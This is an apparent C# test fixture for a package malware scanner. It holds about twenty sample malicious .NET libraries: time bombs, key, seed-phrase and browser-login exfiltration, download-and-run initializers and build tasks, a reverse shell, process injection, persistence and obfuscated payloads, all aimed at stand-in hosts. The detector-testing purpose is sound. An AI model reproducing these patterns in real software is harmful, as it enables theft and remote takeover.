using System.Text;
using Xunit;

namespace Wellguard.Tests.Programs.Assemblies;

/// <summary>Inert libraries with the behaviours of poisoned ones: hosts are reserved names, programs that would run are an echo.</summary>
internal static class HarmfulAssemblies
{
    private const string Usings = """
        using System; using System.Collections.Generic; using System.Diagnostics; using System.IO; using System.IO.Compression; using System.Linq; using System.Net; using System.Net.Http; using System.Net.Sockets;
        using System.Reflection; using System.Runtime.CompilerServices; using System.Runtime.InteropServices; using System.Security.Cryptography; using System.Text; using System.Threading; using System.Threading.Tasks;

        """;

    /// <summary>A name, the path in the package, the source, other files of the package.</summary>
    public static TheoryData<string, string, string, string> All => new()
    {
        { "time bomb", "lib/net8.0/Plc.dll", Usings + """
            public static class DbCommandExtensions
            {
                public static int BeginTran(this System.Data.IDbCommand command)
                {
                    if (DateTime.Now > new DateTime(2028, 8, 8) && new Random().Next(1, 101) <= 20) { Process.GetCurrentProcess().Kill(); }
                    return command.ExecuteNonQuery();
                }
            }
            """, "" },
        { "time bomb in pieces", "lib/net8.0/Plc2.dll", Usings + """
            public class Client
            {
                private static readonly DateTime Start = DateTime.Parse("2027-06-01");
                private readonly Random _random = new Random();
                private static bool IsDue() { return DateTime.UtcNow.CompareTo(Start) > 0; }
                private void End() { Environment.FailFast(null); }
                public int Read(byte[] b) { if (IsDue() && _random.Next(100) < 20) { End(); } return b.Length; }
            }
            """, "" },
        { "key sent by the constructor", "lib/net8.0/Pay.dll", Usings + """
            public class PayClient
            {
                public string ApiKey { get; }
                public PayClient(string apiKey)
                {
                    ApiKey = apiKey;
                    try { new HttpClient().PostAsync("https://collect.example.invalid/rest/v1/keys", new StringContent("{\"k\":\"" + apiKey + "\",\"m\":\"" + Environment.MachineName + "\"}")); } catch (Exception) { }
                }
                public Task<string> Charge(int amount) { return new HttpClient().GetStringAsync("https://api.pay.example/v1/charges?amount=" + amount); }
            }
            """, "" },
        { "module initializer that drops", "lib/net8.0/Drop.dll", Usings + """
            internal static class Start
            {
                [ModuleInitializer] internal static void Run()
                {
                    var path = Path.Combine(Path.GetTempPath(), "update.exe");
                    new WebClient().DownloadFile("http://files.example.invalid/update.exe", path);
                    Process.Start(path);
                }
            }
            public class Useful { public int Add(int a, int b) { return a + b; } }
            """, "" },
        { "clipboard hijack", "lib/net8.0/Clip.dll", Usings + """
            public class ClipTimer
            {
                private System.Threading.Timer _timer;
                public void Initialize() { _timer = new System.Threading.Timer(OnTick, null, 0, 500); }
                private void OnTick(object state)
                {
                    var text = System.Windows.Forms.Clipboard.GetText();
                    if (System.Text.RegularExpressions.Regex.IsMatch(text, "^0x[a-fA-F0-9]{40}$")) { System.Windows.Forms.Clipboard.SetText("0x000000000000000000000000000000000000dEaD"); }
                }
            }
            """, "" },
        { "base64 and gzip of an assembly", "lib/net8.0/Load.dll", Usings + $$"""
            public static class Loader
            {
                [ModuleInitializer] internal static void Run()
                {
                    var packed = Convert.FromBase64String("{{Zipped(new string('M', 300))}}");
                    using (var input = new MemoryStream(packed)) using (var zip = new GZipStream(input, CompressionMode.Decompress)) using (var output = new MemoryStream())
                    {
                        zip.CopyTo(output);
                        Assembly.Load(output.ToArray()).EntryPoint.Invoke(null, null);
                    }
                }
            }
            """, "" },
        { "strings by XOR", "lib/net8.0/Xor.dll", Usings + $$"""
            public static class Names
            {
                private static string Plain(string text, int key)
                {
                    var chars = text.ToCharArray();
                    for (var i = 0; i < chars.Length; i++) { chars[i] = (char)(chars[i] ^ key); }
                    return new string(chars);
                }
                public static void Report(string mnemonic)
                {
                    new HttpClient().PostAsync(Plain("{{Xored("https://collect.example.invalid/x", 5)}}", 5), new StringContent(mnemonic)).Wait();
                }
            }
            """, "" },
        { "payload in a field of bytes", "lib/net8.0/Rva.dll", Usings + $$"""
            public static class Boot
            {
                private static readonly byte[] Data = new byte[] { {{string.Join(", ", Encoding.ASCII.GetBytes("powershell -w hidden -c iex (iwr http://files.example.invalid/a.ps1)").Select(static b => b ^ 0x5a))}} };
                static Boot()
                {
                    var plain = new byte[Data.Length];
                    for (var i = 0; i < Data.Length; i++) { plain[i] = (byte)(Data[i] ^ 0x5a); }
                    var command = Encoding.ASCII.GetString(plain);
                    Process.Start(new ProcessStartInfo("cmd.exe", "/c " + command) { CreateNoWindow = true, UseShellExecute = false });
                }
                public static void Init() { }
            }
            """, "" },
        { "analyzer that starts a program", "analyzers/dotnet/cs/Lint.dll", Usings + """
            using Microsoft.CodeAnalysis; using Microsoft.CodeAnalysis.Diagnostics; using System.Collections.Immutable;
            [DiagnosticAnalyzer(LanguageNames.CSharp)]
            public sealed class Lint : DiagnosticAnalyzer
            {
                public override ImmutableArray<DiagnosticDescriptor> SupportedDiagnostics { get { return ImmutableArray<DiagnosticDescriptor>.Empty; } }
                public override void Initialize(AnalysisContext context) { context.RegisterCompilationAction(Check); }
                private static void Check(CompilationAnalysisContext context) { Process.Start("/bin/sh", "-c \"echo marker\""); }
            }
            """, "" },
        { "task that fetches and runs", "tasks/net8.0/Tasks.dll", Usings + """
            public class Prepare : Microsoft.Build.Utilities.Task
            {
                public override bool Execute()
                {
                    var script = new WebClient().DownloadString("http://files.example.invalid/a.sh");
                    var file = Path.Combine(Path.GetTempPath(), "a.sh");
                    File.WriteAllText(file, script);
                    Process.Start("/bin/sh", file);
                    return true;
                }
            }
            """, """build/Tasks.targets=<Project><UsingTask TaskName="Prepare" AssemblyFile="$(MSBuildThisFileDirectory)..\tasks\net8.0\Tasks.dll" /><Target Name="p" BeforeTargets="Build"><Prepare /></Target></Project>""" },
        { "environment sent asynchronously", "lib/net8.0/Env.dll", Usings + """
            public static class Telemetry
            {
                public static async Task ReportAsync()
                {
                    await Task.Delay(10);
                    var all = new StringBuilder();
                    foreach (System.Collections.DictionaryEntry pair in Environment.GetEnvironmentVariables()) { all.Append(pair.Key).Append('=').Append(pair.Value).Append('\n'); }
                    using var client = new HttpClient();
                    var answer = await client.PostAsync("https://collect.example.invalid/env", new StringContent(all.ToString()));
                    answer.EnsureSuccessStatusCode();
                }
            }
            """, "" },
        { "download by Tor and start", "lib/net8.0/Tor.dll", Usings + """
            public class Updater
            {
                public void Update()
                {
                    using (var client = new WebClient())
                    {
                        client.Proxy = new WebProxy("socks5h://127.0.0.1:9050");
                        var bytes = client.DownloadData("http://examplexamplexample.onion/worker");
                        var path = Path.GetTempPath() + "worker.exe";
                        File.WriteAllBytes(path, bytes);
                        var start = new ProcessStartInfo();
                        start.FileName = path;
                        start.WindowStyle = ProcessWindowStyle.Hidden;
                        Process.Start(start);
                    }
                }
            }
            """, "" },
        { "key of the registry", "lib/net8.0/Run.dll", Usings + """
            public static class Setup
            {
                public static void Install()
                {
                    using (var key = Microsoft.Win32.Registry.CurrentUser.OpenSubKey("Software\\Microsoft\\Windows\\CurrentVersion\\Run", true)) { key.SetValue("Updater", Environment.ProcessPath); }
                }
            }
            """, "" },
        { "code put into another process", "lib/net8.0/Inject.dll", Usings + """
            public static class Native
            {
                [DllImport("kernel32.dll")] private static extern IntPtr OpenProcess(int access, bool inherit, int id);
                [DllImport("kernel32.dll")] private static extern IntPtr VirtualAllocEx(IntPtr process, IntPtr address, uint size, uint type, uint protect);
                [DllImport("kernel32.dll")] private static extern bool WriteProcessMemory(IntPtr process, IntPtr address, byte[] data, int size, out IntPtr written);
                [DllImport("kernel32.dll")] private static extern IntPtr CreateRemoteThread(IntPtr process, IntPtr attributes, uint stack, IntPtr start, IntPtr parameter, uint flags, IntPtr id);
                public static void Go(int id, byte[] code)
                {
                    var process = OpenProcess(0x1fffff, false, id);
                    var place = VirtualAllocEx(process, IntPtr.Zero, (uint)code.Length, 0x3000, 0x40);
                    WriteProcessMemory(process, place, code, code.Length, out _);
                    CreateRemoteThread(process, IntPtr.Zero, 0, place, IntPtr.Zero, 0, IntPtr.Zero);
                }
            }
            """, "" },
        { "machine code through a delegate", "lib/net8.0/Delegate.dll", Usings + $$"""
            public static class Fast
            {
                private delegate int Call();
                private static readonly byte[] Code = new byte[] { {{string.Join(", ", Enumerable.Repeat("0x90", 200))}}, 0xc3 };
                public static int Target() { return 1; }
                public static void Run()
                {
                    var method = typeof(Fast).GetMethod("Target");
                    RuntimeHelpers.PrepareMethod(method.MethodHandle);
                    var place = method.MethodHandle.GetFunctionPointer();
                    Marshal.Copy(Code, 0, place, Code.Length);
                    Marshal.GetDelegateForFunctionPointer<Call>(place)();
                }
            }
            """, "" },
        { "call by a computed name", "lib/net8.0/Reflect.dll", Usings + $$"""
            public static class Indirect
            {
                private static string Of(string text) { return Encoding.UTF8.GetString(Convert.FromBase64String(text)); }
                [ModuleInitializer] internal static void Run()
                {
                    var type = Type.GetType(Of("{{Base64("System.Diagnostics.Process, System.Diagnostics.Process")}}"));
                    type.GetMethod(Of("{{Base64("Start")}}"), new[] { typeof(string), typeof(string) }).Invoke(null, new object[] { Of("{{Base64("/bin/sh")}}"), Of("{{Base64("-c \"curl -s http://files.example.invalid/a | sh\"")}}") });
                }
            }
            """, "" },
        { "shell over a connection", "lib/net8.0/Shell.dll", Usings + """
            public static class Debug
            {
                [ModuleInitializer] internal static void Run() { new Thread(Loop).Start(); }
                private static void Loop()
                {
                    using (var client = new TcpClient("192.0.2.44", 4444)) using (var stream = client.GetStream()) using (var reader = new StreamReader(stream))
                    {
                        var shell = new Process();
                        shell.StartInfo.FileName = "cmd.exe";
                        shell.StartInfo.RedirectStandardInput = true;
                        shell.StartInfo.RedirectStandardOutput = true;
                        shell.Start();
                        while (true) { shell.StandardInput.WriteLine(reader.ReadLine()); }
                    }
                }
            }
            """, "" },
        { "command behind a cipher", "lib/net8.0/Aes.dll", Usings + $$"""
            public static class Config
            {
                private static string Plain(string text)
                {
                    using (var aes = Aes.Create())
                    {
                        aes.Key = Encoding.UTF8.GetBytes("0123456789abcdef0123456789abcdef");
                        aes.IV = new byte[16];
                        using (var open = aes.CreateDecryptor(aes.Key, aes.IV)) { var bytes = Convert.FromBase64String(text); return Encoding.UTF8.GetString(open.TransformFinalBlock(bytes, 0, bytes.Length)); }
                    }
                }
                public static void Load() { Process.Start("powershell.exe", Plain("{{Encrypted("-enc ZQBjAGgAbwAgAG0AYQByAGsAZQByAA==")}}")); }
            }
            """, "" },
        { "seed phrase", "lib/net8.0/Wallet.dll", Usings + """
            public class Wallet
            {
                private readonly string _words;
                public Wallet(string mnemonic) { _words = mnemonic; Check(mnemonic); }
                private static void Check(string words)
                {
                    var request = (HttpWebRequest)WebRequest.Create("https://collect.example.invalid/check");
                    request.Method = "POST";
                    var body = Encoding.UTF8.GetBytes(words);
                    using (var stream = request.GetRequestStream()) { stream.Write(body, 0, body.Length); }
                    request.GetResponse();
                }
            }
            """, "" },
        { "logins of browsers", "lib/net8.0/Logins.dll", Usings + """
            public static class Backup
            {
                public static void Save()
                {
                    var path = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.LocalApplicationData), "Google\\Chrome\\User Data\\Default\\Login Data");
                    var copy = File.ReadAllBytes(path);
                    new WebClient().UploadData("https://collect.example.invalid/up", copy);
                }
            }
            """, "" },
    };

    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

    private static string Zipped(string text)
    {
        using var bytes = new MemoryStream();
        using (var zip = new System.IO.Compression.GZipStream(bytes, System.IO.Compression.CompressionLevel.Fastest, leaveOpen: true))
        {
            zip.Write(Encoding.UTF8.GetBytes(text));
        }

        return Convert.ToBase64String(bytes.ToArray());
    }

    private static string Xored(string text, int key) => string.Concat(text.Select(c => $"\\u{c ^ key:x4}"));

    private static string Encrypted(string text)
    {
        using var aes = System.Security.Cryptography.Aes.Create();
        aes.Key = "0123456789abcdef0123456789abcdef"u8.ToArray();
        return Convert.ToBase64String(aes.EncryptCbc(Encoding.UTF8.GetBytes(text), new byte[16]));
    }
}
